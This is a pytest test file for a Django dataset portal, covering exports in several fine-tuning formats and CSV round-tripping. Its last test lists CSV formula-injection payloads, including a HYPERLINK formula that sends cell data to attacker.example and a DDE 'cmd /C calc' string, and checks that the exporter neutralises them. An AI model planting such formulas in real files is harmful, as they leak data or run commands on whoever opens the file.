"""A frozen version exports in each provider's format, per split, and the files import back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from datasets.formats import CsvMapping, ImportOptions, parse_bytes
from datasets.models import Dataset, DatasetVersion, Example, ExampleStatus
from datasets.services import dataset_version_freeze
from ftportal.models import Project
from ftportal.roles import Role
from tests.api.builders import token_client

pytestmark = pytest.mark.django_db

SYSTEM = "Classify the ticket."


def single(n: int) -> list[dict[str, object]]:
    return [
        {"role": "system", "content": SYSTEM},
        {"role": "user", "content": f"Ticket {n}, with a comma"},
        {"role": "assistant", "content": f'{{"n": {n}}}', "weight": 1},
    ]


MULTI: list[dict[str, object]] = [
    {"role": "user", "content": "Hi"},
    {"role": "assistant", "content": "Hello", "weight": 0},
    {"role": "user", "content": "Reset my password"},
    {"role": "assistant", "content": "Done"},
]


@pytest.fixture
def lead(make_member: Callable[[Role], User]) -> User:
    return make_member(Role.ML_LEAD)


def freeze(project: Project, lead: User, conversations: list[list[dict[str, object]]]):
    dataset = Dataset.objects.create(project=project, name="Support tickets/EU")
    for messages in conversations:
        Example.objects.create(dataset=dataset, messages=messages, status=ExampleStatus.APPROVED)
    return dataset_version_freeze(dataset=dataset, user=lead, validation_fraction=0.2)


@pytest.fixture
def version(project: Project, lead: User) -> DatasetVersion:
    return freeze(project, lead, [single(n) for n in range(10)])


def export(client: Client, version: DatasetVersion, **query: str):
    url = reverse("version_export", args=[version.dataset.project_id, version.pk])
    return client.get(url, query)


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_anthropic_export_puts_the_system_prompt_on_top_and_drops_weights(
    client: Client, version: DatasetVersion, lead: User
) -> None:
    client.force_login(lead)

    response = export(client, version, format="anthropic", split="validation")

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="Support_tickets_EU-v1-validation-anthropic.jsonl"'
    )
    records = [json.loads(line) for line in body(response).splitlines()]
    assert len(records) == version.validation_count == 2
    assert records[0]["system"] == SYSTEM
    assert [m["role"] for m in records[0]["messages"]] == ["user", "assistant"]
    assert all("weight" not in m for r in records for m in r["messages"])


def test_prompt_completion_export_is_single_turn_with_the_system_prompt_first(
    client: Client, version: DatasetVersion, lead: User
) -> None:
    client.force_login(lead)

    records = [
        json.loads(line)
        for line in body(export(client, version, format="prompt_completion")).splitlines()
    ]

    assert len(records) == 10
    assert records[0]["prompt"].startswith(f"{SYSTEM}\n\nTicket ")
    assert records[0]["completion"].startswith('{"n": ')


def test_csv_export_has_a_header_and_the_split_and_imports_back(
    client: Client, version: DatasetVersion, lead: User
) -> None:
    client.force_login(lead)

    response = export(client, version, format="csv", split="train")

    assert response["Content-Type"].startswith("text/csv")
    text = body(response)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["input", "ideal_output", "system", "split"]
    assert len(rows) == 1 + version.train_count
    assert {row[3] for row in rows[1:]} == {"train"}
    mapping = CsvMapping(input_column="input", output_column="ideal_output", system_column="system")
    report = parse_bytes(
        text.encode(), filename="x.csv", options=ImportOptions(format="csv", csv_mapping=mapping)
    )
    assert report.errors == []
    assert report.examples[0].messages[1]["content"].endswith(", with a comma")


def test_csv_export_carries_the_frozen_metadata_as_columns_that_import_back(
    client: Client, project: Project, lead: User
) -> None:
    dataset = Dataset.objects.create(project=project, name="tagged")
    metadata = [{"customer": "acme", "split": "mine"}, {"customer": "zeta", "score": 3}, {}]
    for n, values in enumerate(metadata * 2):
        Example.objects.create(
            dataset=dataset, messages=single(n), status=ExampleStatus.APPROVED, metadata=values
        )
    version = dataset_version_freeze(dataset=dataset, user=lead, validation_fraction=0.2)
    # Frozen means frozen: later changes to an example's metadata do not reach the version.
    dataset.examples.update(metadata={"customer": "changed"})
    client.force_login(lead)

    rows = list(csv.DictReader(io.StringIO(body(export(client, version, format="csv")))))

    assert list(rows[0]) == [
        "input",
        "ideal_output",
        "system",
        "split",
        "customer",
        "score",
        "metadata.split",
    ]
    by_input = {row["input"]: row for row in rows}
    assert by_input["Ticket 0, with a comma"]["customer"] == "acme"
    assert by_input["Ticket 0, with a comma"]["metadata.split"] == "mine"
    assert by_input["Ticket 1, with a comma"]["score"] == "3"
    assert by_input["Ticket 2, with a comma"]["customer"] == ""
    mapping = CsvMapping(
        input_column="input", output_column="ideal_output", metadata_columns=("customer",)
    )
    report = parse_bytes(
        body(export(client, version, format="csv")).encode(),
        filename="x.csv",
        options=ImportOptions(format="csv", csv_mapping=mapping),
    )
    assert {e.metadata.get("customer") for e in report.examples} >= {"acme", "zeta"}


def test_a_multi_turn_example_is_refused_by_the_flat_formats_naming_it(
    client: Client, project: Project, lead: User
) -> None:
    version = freeze(project, lead, [single(1), MULTI, single(2)])
    multi = version.items.get(messages=MULTI)
    client.force_login(lead)

    for fmt in ("prompt_completion", "csv"):
        response = export(client, version, format=fmt)
        assert response.status_code == 400
        assert f"#{multi.position} (example {multi.example_id})" in response.content.decode()
        assert "single-turn" in response.content.decode()

    openai = body(export(client, version, format="openai_chat"))
    assert {"messages": MULTI} in [json.loads(line) for line in openai.splitlines()]
    anthropic = [
        json.loads(line) for line in body(export(client, version, format="anthropic")).splitlines()
    ]
    assert {"messages": [{"role": m["role"], "content": m["content"]} for m in MULTI]} in anthropic


def test_the_export_api_takes_format_and_split_and_refuses_unknown_formats(
    version: DatasetVersion, lead: User
) -> None:
    client = token_client(lead)
    url = f"/api/projects/{version.dataset.project_id}/dataset-versions/{version.pk}/export/"

    response = client.get(url, {"format": "anthropic", "split": "train"})
    assert response.status_code == 200
    lines = body(response).splitlines()
    assert len(lines) == version.train_count
    assert json.loads(lines[0])["system"] == SYSTEM

    refused = client.get(url, {"format": "yaml"})
    assert refused.status_code == 400
    assert "format" in refused.json()["error"]["fields"]


def test_the_version_page_links_every_format(
    client: Client, version: DatasetVersion, lead: User
) -> None:
    client.force_login(lead)

    page = client.get(reverse("version_detail", args=[version.dataset.project_id, version.pk]))

    html = page.content.decode()
    for fmt in ("openai_chat", "anthropic", "prompt_completion", "csv"):
        assert f"?format={fmt}&amp;split=train" in html


def test_an_export_for_a_non_member_is_404(
    client: Client, version: DatasetVersion, make_member: Callable[..., User]
) -> None:
    other = Project.objects.create(name="Other")
    client.force_login(make_member(Role.ADMIN, target=other))

    assert export(client, version, format="csv").status_code == 404


# OWASP's CSV injection examples, plus the prefixes it names (tab, carriage return) and a cell
# that already starts with the guard's apostrophe before a formula character.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# Formula characters later in the cell, or an apostrophe before ordinary text, are harmless.
HARMLESS = ["1-1", "a=b", "user@example.com", "'tis the season", ""]


def test_csv_export_prefixes_cells_a_spreadsheet_would_run_as_formulas(
    client: Client, project: Project, lead: User
) -> None:
    dataset = Dataset.objects.create(project=project, name="formulas")
    values = FORMULAS + HARMLESS
    for n, value in enumerate(values):
        messages = [
            {"role": "system", "content": value or "plain"},
            {"role": "user", "content": f"{value} #{n}" if value[:1] in "=+-@\t\r'" else f"q{n}"},
            {"role": "assistant", "content": value or "empty"},
        ]
        Example.objects.create(
            dataset=dataset,
            messages=messages,
            status=ExampleStatus.APPROVED,
            metadata={"note": value, "=cmd|' /C calc'!A0": "x"},
        )
    version = dataset_version_freeze(dataset=dataset, user=lead, validation_fraction=0.2)
    client.force_login(lead)

    text = body(export(client, version, format="csv"))
    rows = list(csv.reader(io.StringIO(text)))

    assert rows[0][-2:] == ["'=cmd|' /C calc'!A0", "note"]
    by_answer = {row[1]: row for row in rows[1:]}
    for value in FORMULAS:
        row = by_answer["'" + value]
        assert row[2] == "'" + value  # system
        assert row[-1] == "'" + value  # metadata
        assert row[0].startswith("'" + value)  # input
    for value in filter(None, HARMLESS):
        assert by_answer[value][2] == value
        assert by_answer[value][-1] == value
    # No cell of the file starts with a formula character.
    assert not [
        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]

    # The file imports back with the original text: the import takes the guard off.
    mapping = CsvMapping(
        input_column="input",
        output_column="ideal_output",
        system_column="system",
        metadata_columns=("note", "=cmd|' /C calc'!A0"),
    )
    report = parse_bytes(
        text.encode(), filename="x.csv", options=ImportOptions(format="csv", csv_mapping=mapping)
    )
    assert report.errors == []
    imported = {tuple(m["content"] for m in e.messages) for e in report.examples}
    originals = {tuple(m["content"] for m in item.messages) for item in version.items.all()}
    assert imported == originals
    assert {e.metadata["note"] for e in report.examples} == set(values)
    assert {e.metadata["=cmd|' /C calc'!A0"] for e in report.examples} == {"x"}
